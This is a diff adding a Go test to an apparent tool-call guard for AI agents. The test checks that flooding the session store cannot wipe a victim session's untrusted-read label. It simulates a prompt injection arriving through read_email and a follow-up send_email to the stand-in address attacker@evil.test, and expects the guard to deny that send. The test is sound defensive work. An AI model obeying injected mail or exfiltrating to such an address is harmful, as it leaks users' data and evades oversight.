@@ -300,6 +300,48 @@ func TestSessionExpiryAndEvictionDenyRatherThanForget(t *testing.T) {
 	assert.Contains(t, decisionOf(t, err).Reason, "dropped", "an evicted session does not come back empty")
 }
 
+// One principal opening sessions in a loop cannot push another
+// principal's session out of the memory store, nor make one dropped by the
+// pressure of many principals look new: the victim's exfiltration after an
+// untrusted read is still denied.
+func TestSessionEvictionAcrossPrincipals(t *testing.T) {
+	store := toolguard.NewMemorySessions(toolguard.MemorySessionOptions{MaxSessions: 8, MaxSessionsPerPrincipal: 2, TTL: time.Hour})
+	e := newSessEnv(t, flowPolicy, toolguard.WithSessions(store))
+	e.returns("read_email", injection)
+	as := func(principal, session string) context.Context {
+		ctx := toolguard.WithPrincipal(context.Background(), scope.Principal{ID: principal, Scopes: []string{"assistant"}})
+		return toolguard.WithSession(ctx, session)
+	}
+	flood := func(principal string, n int) {
+		t.Helper()
+		for i := range n {
+			_, err := e.call(as(principal, fmt.Sprint("flood-", i)), "read_balance", map[string]any{})
+			require.NoError(t, err)
+		}
+	}
+	victim := as("victim", "v")
+	_, err := e.call(victim, "read_email", map[string]any{})
+	require.NoError(t, err)
+	flood("mallory", 200)
+	_, err = e.call(victim, "send_email", map[string]any{"to": "attacker@evil.test"})
+	require.ErrorIs(t, err, toolguard.ErrDenied)
+	assert.Equal(t, "no-mail-out-after-untrusted", decisionOf(t, err).Rule, "the victim's session kept its labels")
+
+	// Eight principals together fill the store and push the victim's
+	// session out; then one of them floods. The victim's session is
+	// denied as dropped, never started again empty.
+	for i := range 8 {
+		flood(fmt.Sprint("user-", i), 1)
+	}
+	flood("mallory", 200)
+	_, err = e.call(victim, "send_email", map[string]any{"to": "attacker@evil.test"})
+	require.ErrorIs(t, err, toolguard.ErrDenied)
+	d := decisionOf(t, err)
+	assert.Equal(t, toolguard.StageSession, d.Stage)
+	assert.Contains(t, d.Reason, "dropped")
+	assert.Contains(t, d.Reason, "start a new session")
+}
+
 // brokenStore is a session store whose backend is down.
 type brokenStore struct{ toolguard.SessionStore }
 
